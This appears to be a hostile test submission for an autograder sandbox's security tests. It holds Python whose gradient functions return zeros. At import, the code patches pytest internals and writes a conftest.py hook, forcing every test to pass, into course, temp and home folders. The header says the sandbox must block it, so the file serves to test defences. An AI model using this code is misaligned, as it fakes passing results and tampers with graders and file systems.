# Case: pytest_patch + conftest_drop (security notes 5.6, attack A3).
# At import, patches _pytest (Function.runtest, TestReport outcome) in the executor and writes a
# conftest.py and a pytest.ini (that would make every test pass) into every folder it can
# reach: the course root (@@COURSE@@), its reference_tests/hw2 and public/, the working
# directory, /tmp, /var/tmp, the home directory. Returns wrong values.
# Must hold: every test fails; no such file appears in the course tree (both levels) or in
# /tmp, /var/tmp, /dev/shm of the host (namespace level: they stay private); the NEXT submission
# (the solution) is graded normally, with full marks.
import os

import torch


def sigmoid_grad(x):
    return torch.zeros_like(x)


def tanh_grad(x):
    return torch.zeros_like(x)


def relu_grad(x):
    return torch.zeros_like(x)


def softmax(a, dim=-1):
    return torch.zeros_like(a)


def softmax_jacobian(a):
    return torch.zeros(*a.shape, a.shape[-1], dtype=a.dtype)


def softmax_backward(p, grad_p):
    return torch.zeros_like(p)


def linear_mse_grad(x, y, w, b):
    return torch.zeros_like(w), torch.zeros_like(b)


def cross_entropy(logits, target):
    return logits.sum() * 0


def cross_entropy_grad(logits, target):
    return torch.zeros_like(logits)

COURSE = "@@COURSE@@"
TOKEN = "@@TOKEN@@"
CONFTEST = f"""# {TOKEN}
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""

try:
    import _pytest.python
    import _pytest.reports
    _pytest.python.Function.runtest = lambda self: None
    _pytest.reports.TestReport.outcome = "passed"
except BaseException:
    pass

WRITTEN = []
for folder in (COURSE, os.path.join(COURSE, "reference_tests"),
               os.path.join(COURSE, "reference_tests", "hw2"),
               os.path.join(COURSE, "reference_tests", "hw2", "public"), os.getcwd(), "/tmp",
               "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/"):
    for name, text in (("conftest.py", CONFTEST), ("pytest.ini", f"# {TOKEN}\n[pytest]\n"),
                       (f"pwned_{TOKEN}.txt", TOKEN)):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(text)
            WRITTEN.append(os.path.join(folder, name))
        except OSError:
            pass
print("written:", WRITTEN)
